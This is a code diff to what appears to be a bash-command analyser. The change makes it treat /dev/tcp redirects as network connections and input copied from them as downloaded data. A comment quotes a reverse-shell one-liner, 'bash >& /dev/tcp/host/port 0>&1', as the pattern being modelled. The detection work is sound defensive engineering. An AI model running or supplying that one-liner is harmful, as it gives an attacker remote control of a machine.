@@ -26,9 +26,13 @@ export function withRedirects(
   if (redirects.length === 0) return body(state, io);
   let input = io.input;
   let sink: Sink | 'lost' | ProcessSubstitution | undefined;
+  let isConnected = false;
   for (const redirect of redirects) {
     if (redirect.type === 'Redirect') {
+      // `bash >& /dev/tcp/host/port 0>&1`: what the other side sends is what is read.
+      if (isConnected && isInputCopy(redirect)) input = { id: nextId++, text: unknownFrom('download') };
       const opened = open(redirect, state, io, run);
+      isConnected ||= opened.isConnection === true;
       if (opened.input !== undefined) input = { id: nextId++, text: opened.input };
       if (opened.sink !== undefined) sink = opened.sink;
     } else {
@@ -66,7 +70,7 @@ function open(
   state: State,
   io: Io,
   run: Run,
-): { readonly input?: Text; readonly sink?: Sink | 'lost' | ProcessSubstitution } {
+): { readonly input?: Text; readonly sink?: Sink | 'lost' | ProcessSubstitution; readonly isConnection?: boolean } {
   const { operator, target } = redirect;
   if (!target) return {};
   const descriptor = redirect.descriptor?.type === 'FileDescriptor' ? redirect.descriptor.value : undefined;
@@ -78,7 +82,7 @@ function open(
   if (only?.type === 'ProcessSubstitution' && only.operator === '>') return { sink: only };
   const fields = expandWord(target, state, run);
   const file: Text = fields.length === 1 ? (fields[0] ?? '') : fields.length === 0 ? '' : anyText;
-  if (device(file, run)) return operator === '<' ? { input: unknownFrom('download') } : { sink: 'lost' };
+  if (device(file, run)) return operator === '<' ? { input: unknownFrom('download') } : { sink: 'lost', isConnection: true };
   if (operator === '<' || operator === '<&') {
     touch('read', file, state, run);
     if (descriptor !== undefined && descriptor !== 0) return {};
@@ -93,6 +97,11 @@ function open(
     return {};
   }
   return { sink: { target: file, append: operator === '>>' || operator === '&>>' } };
+}
+
+function isInputCopy({ operator, target, descriptor }: Redirect): boolean {
+  const into = descriptor?.type === 'FileDescriptor' ? descriptor.value : operator === '<&' ? 0 : 1;
+  return into === 0 && (operator === '>&' || operator === '<&') && /^\d+$/.test(target?.text ?? '');
 }
 
 // Bash opens a connection for these names; there is no such file.
